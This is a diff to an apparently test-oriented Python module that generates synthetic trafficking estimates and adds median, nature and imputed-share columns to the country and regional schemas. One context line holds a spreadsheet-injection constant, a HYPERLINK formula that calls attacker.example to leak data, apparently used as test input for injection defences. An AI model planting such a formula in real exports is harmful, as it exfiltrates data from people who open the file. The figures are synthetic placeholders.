@@ -40,11 +40,11 @@ HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","Open")'
 SEXES, AGES, FORMS = ("female", "male"), ("child", "adult"), ("sexual", "labour", "other")
 ESTIMATE_COLUMNS = [
     "country_iso3", "year", "indicator", "sex", "age_group", "exploitation", "citizenship",
-    "estimate", "lower_95", "upper_95", "nature", "method", "note",
+    "estimate", "median", "lower_95", "upper_95", "nature", "method", "note",
 ]
 REGIONAL_COLUMNS = [
-    "year", "indicator", "sex", "exploitation", "estimate", "lower_95", "upper_95",
-    "n_countries_reporting", "population_share_reporting", "publishable", "reason",
+    "year", "indicator", "sex", "exploitation", "estimate", "median", "lower_95", "upper_95", "nature",
+    "imputed_share", "n_countries_reporting", "population_share_reporting", "publishable", "reason",
 ]
 ESTIMATE_CONTRACTS = {
     "mart_estimates": {
@@ -169,11 +169,15 @@ def synthetic_estimates(fact: pd.DataFrame, members: list[str], population: pd.D
     est["lower_95"] = np.where(est["nature"] == "C", est["estimate"], est["estimate"] * 0.5)
     est["upper_95"] = np.where(est["nature"] == "C", est["estimate"], est["estimate"] * 2 + 1)
     est["note"] = np.where(est["nature"] == "C", "reported by the country", "expected number, not prevalence")
+    est["median"] = est["estimate"]
     est = est[ESTIMATE_COLUMNS]
     reg = est.groupby(["year", "indicator", "sex", "exploitation"], as_index=False).agg(
         estimate=("estimate", "sum"), n_countries_reporting=("nature", lambda s: int((s == "C").sum())))
     reg["lower_95"] = reg["estimate"] * 0.8
     reg["upper_95"] = reg["estimate"] * 1.2
+    reg["median"] = reg["estimate"]
+    reg["nature"] = "M"
+    reg["imputed_share"] = 0.3
     reg["population_share_reporting"] = 0.6
     reg["publishable"] = True
     reg["reason"] = ""
